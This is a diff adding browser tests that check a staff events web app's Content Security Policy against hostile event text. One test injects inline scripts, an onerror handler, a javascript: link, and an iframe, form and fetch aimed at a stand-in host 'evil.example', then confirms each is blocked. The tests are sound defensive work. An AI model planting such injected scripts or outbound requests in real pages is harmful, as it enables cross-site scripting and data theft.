@@ -1,0 +1,132 @@
+"""Events that say hostile things, in a real browser: nothing runs, nothing breaks the policy, nothing turns around."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from events import bulk, services
+from events.domain import Actor
+from events.forms import today
+from tests.browser.conftest import Open, sign_in
+from tests.builders import ACTOR, make_fields, make_staff
+from tests.conftest import Server
+from tests.hostile.texts import TAKEN, TEXT_FIELDS
+
+ADA = Actor("ada", "127.0.0.1")
+PAGES = [
+    "/staff/",
+    "/staff/events/?ended=on",
+    "/staff/events/new/",
+    "/staff/events/new/?copy=one",
+    "/staff/event/one/",
+    "/staff/event/one/edit/",
+    "/staff/event/one/delete/",
+    "/staff/event/gone/",
+    "/staff/calendar/",
+    "/staff/activity/",
+    "/staff/import/",
+    "/staff/account/",
+    "/staff/account/password/",
+    "/staff/people/",
+    "/staff/people/new/",
+    "/staff/people/ada/",
+    "/staff/keys/",
+    "/staff/nothing/",
+    "/docs",
+]
+# Before any script of a page's own: whatever the browser refuses, and whatever runs that should not.
+WATCH = """
+window.refused = [];
+document.addEventListener("securitypolicyviolation",
+    (event) => window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
+window.alert = (said) => { window.taken = said; };
+"""
+
+
+@pytest.fixture
+def desk_of_texts(open_browser: Open) -> Page:
+    make_staff("ada", "admin")
+    day = today().isoformat()
+    for number, text in enumerate(TAKEN.values()):
+        said = dict.fromkeys(TEXT_FIELDS, text)
+        services.create_event(make_fields(**{**said, "eventId": text if number else "one"}, date=day), ACTOR)
+    services.create_event(make_fields(eventId="gone", title=TAKEN["script"]), ACTOR)
+    services.delete_event("gone", ACTOR)
+    page = open_browser(viewport={"width": 1280, "height": 800})
+    page.add_init_script(WATCH)
+    sign_in(page, "ada")
+    return page
+
+
+def found(page: Page) -> list[Any]:
+    return page.evaluate("[...window.refused, ...(window.taken ? ['taken'] : [])]")  # type: ignore[no-any-return]
+
+
+def test_no_page_breaks_its_policy_and_nothing_runs(desk_of_texts: Page) -> None:
+    page = desk_of_texts
+    batch = bulk.prepare_status(None, ["one"], TAKEN["end of an attribute"], ADA)
+    for path in [*PAGES, f"/staff/batches/{batch.id}/"]:
+        page.goto(path)
+        page.mouse.move(600, 400)
+        page.keyboard.press("Tab")
+        assert found(page) == [], path
+
+
+INJECT = """() => {
+    const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
+    add("script", {textContent: "window.taken = 'inline'"});
+    add("script", {src: "https://evil.example/x.js"});
+    add("div", {innerHTML: `<img src="data:," onerror="window.taken = 'handler'"><p style="color: red">x</p>
+        <a id="link" href="javascript:window.taken=1">x</a><iframe src="https://evil.example/"></iframe>
+        <form action="https://evil.example/"><button id="send">x</button></form>`});
+    document.querySelector("#link").click();
+    document.querySelector("#send").click();
+    fetch("https://evil.example/").catch(() => {});
+}"""
+
+
+def test_a_script_that_is_put_into_a_page_is_refused(browser: Browser, server: Server) -> None:
+    """In each way that markup could put it there; so that what is not found above is not found for want of looking."""
+    make_staff("ada", "admin")
+    context = browser.new_context(base_url=server.url)  # one whose console may say so
+    page = context.new_page()
+    page.add_init_script(WATCH)
+    sign_in(page, "ada")
+    page.evaluate(INJECT)
+    page.wait_for_function("window.refused.length >= 8")
+    refused = {line.split()[0] for line in found(page)}
+    assert {
+        "script-src-elem",
+        "script-src-attr",
+        "style-src-attr",
+        "frame-src",
+        "form-action",
+        "connect-src",
+    } <= refused
+    assert page.evaluate("window.taken") is None
+    context.close()
+
+
+# Titles whose neighbours in the line are on the wrong side.
+TURNED = """() => [...document.querySelectorAll(".activity-line a")].filter((title) => {
+    const parts = (node) => [...(node?.getClientRects() ?? [])];
+    const level = (one) => (other) => Math.abs(one.top + one.height / 2 - other.top - other.height / 2) < 5;
+    const lines = parts(title), before = parts(title.previousElementSibling).at(-1);
+    const turnedBefore = lines.filter(level(before)).some((part) => part.left < before.right - 1);
+    const after = parts(title.nextElementSibling)[0];
+    return turnedBefore || (after && lines.filter(level(after)).some((part) => part.right > after.left + 1));
+}).map((title) => title.textContent)"""
+
+
+def test_no_text_turns_what_is_around_it(desk_of_texts: Page) -> None:
+    """In the activity, the words before a title stand at its left and those after it at its right, whatever it is."""
+    page = desk_of_texts
+    for text in TAKEN.values():
+        event_id = text if text != next(iter(TAKEN.values())) else "one"
+        services.update_event(event_id, {"capacity": 7, "organizer": "x"}, ACTOR)
+    page.goto("/staff/activity/")
+    assert page.locator(".activity-line a").count() >= len(TAKEN)
+    assert page.evaluate(TURNED) == []
